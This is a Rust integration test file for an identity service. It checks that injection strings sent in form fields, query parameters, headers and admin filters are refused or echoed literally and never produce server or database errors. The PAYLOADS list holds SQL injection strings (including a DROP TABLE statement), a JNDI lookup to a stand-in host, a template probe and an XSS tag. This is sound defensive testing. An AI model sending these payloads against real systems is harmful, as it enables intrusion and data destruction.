//! SECURITY.md A9: injection-ish strings in every field a client controls (form fields,
//! query parameters, flow ids, headers, admin filters) are refused or echoed literally, never
//! answered with a 5xx or a database error, and leave the database as it was.

use serde_json::{Value, json};

use crate::helpers::{TestApp, spawn_postgres_with, spawn_with};
use crate::verification_support::node;

const PAYLOADS: [&str; 7] = [
    "' OR 1=1--",
    "\"; DROP TABLE identities; --",
    "%00",
    "a\u{0}b",
    "{{7*7}}",
    "${jndi:ldap://x.example/a}",
    "<script>alert(1)</script>",
];

/// Words of database errors that must never reach a client.
const LEAKS: [&str; 6] = [
    "sqlstate",
    "syntax error",
    "sqlx",
    "sqlite",
    "postgres",
    "relation ",
];

fn assert_clean(what: &str, status: u16, body: &str) {
    assert!(status < 500, "{what}: {status} {body}");
    let lower = body.to_lowercase();
    for word in LEAKS {
        assert!(!lower.contains(word), "{what}: {word:?} in {body}");
    }
}

async fn api_flow(app: &TestApp, kind: &str) -> String {
    let r = app
        .http
        .get(format!("{}/self-service/{kind}/api", app.public))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{kind}");
    let v: Value = r.json().await.unwrap();
    v["id"].as_str().unwrap().to_owned()
}

async fn submit(app: &TestApp, kind: &str, body: Value) -> (u16, String) {
    let id = api_flow(app, kind).await;
    let r = app
        .http
        .post(format!("{}/self-service/{kind}?flow={id}", app.public))
        .json(&body)
        .send()
        .await
        .unwrap();
    (r.status().as_u16(), r.text().await.unwrap())
}

async fn get(app: &TestApp, url: String, headers: &[(&str, &str)]) -> (u16, String) {
    let mut req = app.http.get(url);
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let r = req.send().await.unwrap();
    (r.status().as_u16(), r.text().await.unwrap_or_default())
}

#[tokio::test]
async fn injection_strings_are_refused_or_echoed_literally_sqlite() {
    injection_strings_are_refused_or_echoed_literally(spawn_with(|_| {}).await).await;
}

#[tokio::test]
async fn injection_strings_are_refused_or_echoed_literally_postgres() {
    if let Some(app) = spawn_postgres_with(|_| {}).await {
        injection_strings_are_refused_or_echoed_literally(app).await;
    }
}

async fn injection_strings_are_refused_or_echoed_literally(app: TestApp) {
    for p in PAYLOADS {
        let enc = urlencoding(p);
        // Sign-in: refused with the generic error, the identifier echoed as typed.
        let body = json!({"method": "password", "identifier": p, "password": p});
        let (status, text) = submit(&app, "login", body).await;
        assert_clean("login", status, &text);
        assert_eq!(status, 400, "login {p:?}: {text}");
        let flow: Value = serde_json::from_str(&text).unwrap();
        if p.contains('\0') {
            // Refused as undecodable (no database stores a NUL in text).
            assert_eq!(flow["ui"]["messages"][0]["id"], 4000001, "{text}");
        } else {
            let echoed = &node(&flow, "identifier").unwrap()["attributes"]["value"];
            assert_eq!(echoed, p, "login echoes {p:?} literally");
        }

        // Sign-up, verification, recovery: not an email address, said so on the form.
        let body = json!({"method": "password", "password": p, "traits": {"email": p}});
        let (status, text) = submit(&app, "registration", body).await;
        assert_clean("registration", status, &text);
        assert_eq!(status, 400, "registration {p:?}: {text}");
        for kind in ["verification", "recovery"] {
            let (status, text) = submit(&app, kind, json!({"method": "code", "email": p})).await;
            assert_clean(kind, status, &text);
            assert_eq!(status, 400, "{kind} {p:?}: {text}");
        }
        // A code field: refused by shape, no attempt spent, nothing leaks.
        let (status, text) =
            submit(&app, "verification", json!({"method": "code", "code": p})).await;
        assert_clean("verification code", status, &text);

        // Query parameters, flow ids and headers.
        let public = &app.public;
        let urls = [
            format!("{public}/self-service/login/browser?return_to={enc}"),
            format!("{public}/self-service/login/flows?id={enc}"),
            format!("{public}/self-service/verification/flows?id={enc}"),
            format!("{public}/self-service/errors?id={enc}"),
            format!("{public}/sessions/whoami"),
        ];
        for url in urls {
            let headers = [
                ("User-Agent", p),
                ("X-Session-Token", p),
                ("Cookie", "ory_kratos_session=' OR 1=1--"),
                ("X-Forwarded-For", p),
            ];
            let headers: Vec<_> = headers
                .into_iter()
                .filter(|(_, v)| !v.contains('\0'))
                .collect();
            let (status, text) = get(&app, url.clone(), &headers).await;
            assert_clean(&url, status, &text);
        }
        let admin = &app.admin;
        let (status, text) = get(
            &app,
            format!("{admin}/admin/identities?credentials_identifier={enc}"),
            &[],
        )
        .await;
        assert_clean("admin filter", status, &text);
        if status == 200 {
            assert_eq!(text.trim(), "[]", "{p:?} matches no identity");
        }
        let (status, text) = get(
            &app,
            format!("{admin}/admin/identities?page_token={enc}"),
            &[],
        )
        .await;
        assert_clean("admin page token", status, &text);
    }
    // The database is as it was: the table is there and holds nothing.
    let (status, text) = get(&app, format!("{}/admin/identities", app.admin), &[]).await;
    assert_eq!(status, 200, "{text}");
    assert_eq!(text.trim(), "[]");
}

/// Percent-encodes every byte that is not unreserved (RFC 3986).
fn urlencoding(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}
